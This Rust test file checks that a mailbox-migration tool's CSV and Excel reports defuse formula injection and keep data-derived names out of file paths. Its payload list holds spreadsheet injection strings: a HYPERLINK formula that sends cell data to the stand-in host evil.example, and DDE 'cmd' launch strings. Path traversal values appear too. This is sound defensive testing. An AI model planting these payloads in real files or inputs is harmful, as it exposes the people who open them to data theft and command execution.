//! What data could do to those who open a report, and names that come from data.

use std::fmt::Write as _;
use std::fs;
use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use zip::ZipArchive;

use crate::project::{HEADER, Project, words};

/// What spreadsheets would run, also behind a quote or a separator.
const PAYLOADS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\u{ff1d}1+1",
    "\t=1+1",
];

/// A project whose people are called like formulas.
fn with_payloads() -> Project {
    let mut text = format!("{HEADER}\n");
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let name = payload.replace('"', "\"\"");
        let _ = writeln!(text, "\"{name}\",p{number}@contoso.com,\"SMTP:p{number}@contoso.com;{name}\",UserMailbox");
    }
    let project = Project::new();
    project.write("source/mailboxes.csv", text.as_bytes());
    project
}

fn assess(project: &Project, more: &str) -> String {
    let line = format!("assess --source source --destination destination {more}");
    words(&project.program(&line).output().expect("the program starts"))
}

#[test]
fn h20_no_field_of_a_csv_file_begins_like_a_formula() {
    let project = with_payloads();
    assess(&project, "--no-workbook --csv csv --actions actions");
    let mut payloads = 0;
    for folder in ["csv", "actions"] {
        for entry in fs::read_dir(project.path().join(folder)).expect("a folder").flatten() {
            if entry.path().extension().is_none_or(|extension| extension != "csv") {
                continue;
            }
            let bytes = fs::read(entry.path()).expect("a file");
            let text = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a BOM");
            let mut rows = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
            for field in
                rows.records().flat_map(|record| record.expect("UTF-8").iter().map(str::to_owned).collect::<Vec<_>>())
            {
                let number = field.parse::<f64>().is_ok();
                assert!(number || !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']), "{field:?}");
                payloads += usize::from(field.starts_with("'="));
            }
        }
    }
    assert!(payloads > 0, "the names are there, guarded");
}

#[test]
fn h21_no_text_of_a_workbook_becomes_a_formula_or_a_link() {
    let project = with_payloads();
    assess(&project, "--out report.xlsx");
    let bytes = project.read("report.xlsx");
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.clone())).expect("a workbook");
    let mut seen = 0;
    for (name, cells) in book.worksheets() {
        seen += cells
            .cells()
            .filter(|(.., cell)| matches!(cell, Data::String(text) if PAYLOADS.contains(&text.as_str())))
            .count();
        let formulas = book.worksheet_formula(&name).expect("a sheet");
        for (.., formula) in formulas.cells() {
            assert!(!formula.contains("evil") && !formula.contains("cmd"), "{name}: {formula}");
        }
    }
    assert!(seen > 0, "the names are there as text");
    let mut archive = ZipArchive::new(Cursor::new(bytes)).expect("an archive");
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).expect("a part");
        let name = part.name().expect("a name").into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).expect("XML");
        assert!(!name.contains("externalLink") && !name.contains("vbaProject"), "{name}");
        assert!(!name.contains("_rels/") || !text.contains("evil"), "{name}: {text}");
    }
}

/// Names of projects come from people and stand in headers, footers and properties of the workbook.
#[test]
fn limits_of_excel_hold_whatever_the_project_and_the_people_are_called() {
    let project = Project::new();
    let long = "é&\u{1f600} ".repeat(200);
    let number = "12345678901234567890";
    let lines = "line\n".repeat(300);
    let text = format!(
        "{HEADER}\n{number},{number}@contoso.com,SMTP:{number}@contoso.com,UserMailbox\n\
         \"{lines}\",l@contoso.com,,UserMailbox\n{},m@contoso.com,,UserMailbox\n",
        "m".repeat(40_000)
    );
    project.write("source/mailboxes.csv", text.as_bytes());
    project.write("migration.toml", format!("[project]\nname = \"{long}\"\n").as_bytes());
    let said = assess(&project, "--project migration.toml --out report.xlsx");
    assert!(said.contains("report.xlsx") && !said.contains("error"), "{said}");
    let bytes = project.read("report.xlsx");
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.clone())).expect("a workbook");
    let mut is_text = false;
    for (name, cells) in book.worksheets() {
        assert!(name.encode_utf16().count() <= 31 && !name.contains(['[', ']', ':', '*', '?', '/', '\\']), "{name}");
        for (row, column, cell) in cells.cells() {
            let Data::String(text) = cell else { continue };
            assert!(text.encode_utf16().count() <= 32_767, "{name} {row} {column}");
            assert!(text.matches('\n').count() <= 253, "{name} {row} {column}");
            is_text |= text == number;
        }
    }
    assert!(is_text, "a name of 20 digits is text and keeps them all");
    let mut archive = ZipArchive::new(Cursor::new(bytes)).expect("an archive");
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).expect("a part");
        let name = part.name().expect("a name").into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).expect("XML");
        for tag in ["oddHeader", "oddFooter"] {
            let Some((_, rest)) = text.split_once(&format!("<{tag}>")) else { continue };
            let inner = rest.split("</").next().unwrap_or_default().replace("&amp;", "&");
            assert!(inner.encode_utf16().count() <= 255, "{name}: {tag} has {} units", inner.encode_utf16().count());
        }
        for list in text.split("<formula1>").skip(1) {
            let list = list.split("</").next().unwrap_or_default();
            assert!(list.encode_utf16().count() <= 257, "{name}: {list}");
        }
    }
}

#[test]
fn h25_an_output_that_is_an_input_through_a_link_is_refused() {
    let project = Project::new();
    fs::hard_link(project.path().join("source/mailboxes.csv"), project.path().join("report.xlsx")).expect("a link");
    let said = assess(&project, "--out report.xlsx");
    assert!(said.contains("is one of the inputs"), "{said}");
}

#[test]
fn h27_no_name_from_the_data_becomes_a_file_name() {
    let project = Project::new();
    let mut text = format!("{HEADER}\n");
    for domain in ["..", "../../x", "c:\\con", "nul", "a:b.com", "contoso.com"] {
        let _ = writeln!(text, "Jane,jane@{domain},SMTP:jane@{domain},UserMailbox");
    }
    project.write("source/mailboxes.csv", text.as_bytes());
    project.write(
        "source/domains.csv",
        b"DomainName,DomainType,Default\n../../x,Authoritative,True\nCON,Authoritative,False\n",
    );
    assess(&project, "--out out/report.xlsx --json out/report.json --csv out/csv --actions out/actions");
    let beside: Vec<_> = fs::read_dir(project.path()).expect("a folder").flatten().map(|e| e.file_name()).collect();
    assert_eq!(beside.len(), 3, "source, destination and out: {beside:?}");
    for entry in walkdir::WalkDir::new(project.path().join("out")) {
        let name = entry.expect("an entry").file_name().to_string_lossy().into_owned();
        let plain = name.chars().all(|c| c.is_ascii_alphanumeric() || " -_.".contains(c));
        assert!(plain && !name.contains("..") && !name.starts_with('.'), "{name}");
        assert!(!["con", "nul"].iter().any(|device| name.to_lowercase().starts_with(&format!("{device}."))), "{name}");
    }
}

#[cfg(unix)]
#[test]
fn h28_file_names_of_every_sort_are_opened() {
    use std::os::unix::ffi::OsStrExt;

    let project = Project::new();
    let export = project.read("source/mailboxes.csv");
    fs::remove_file(project.path().join("source/mailboxes.csv")).expect("it was there");
    for name in [&b"not \xFF Unicode.csv"[..], b"[1] {x} *?.csv", b"-dash.csv", "Zo\u{308}e.csv".as_bytes()] {
        let path = project.path().join("source").join(std::ffi::OsStr::from_bytes(name));
        fs::write(&path, &export).expect("a file");
        let document = project.assess();
        assert_eq!(document["pairs"][0]["source"], "jane@contoso.com", "{}", path.display());
        fs::remove_file(path).expect("it was there");
    }
    fs::write(project.path().join("-dash.csv"), &export).expect("a file");
    let said = words(&project.program("inspect -- -dash.csv").output().expect("the program starts"));
    assert!(said.contains("mailboxes"), "{said}");
}

#[test]
fn h39_values_in_messages_are_short_and_environment_says_nothing_else() {
    let project = Project::new();
    let long = "x".repeat(500);
    project.write("source/mailboxes.csv", format!("{HEADER}\nann,{long},,UserMailbox,{long},{long}\n").as_bytes());
    let said = project.inspect("mailboxes.csv");
    assert!(!said.contains(&"x".repeat(200)), "{said}");
}
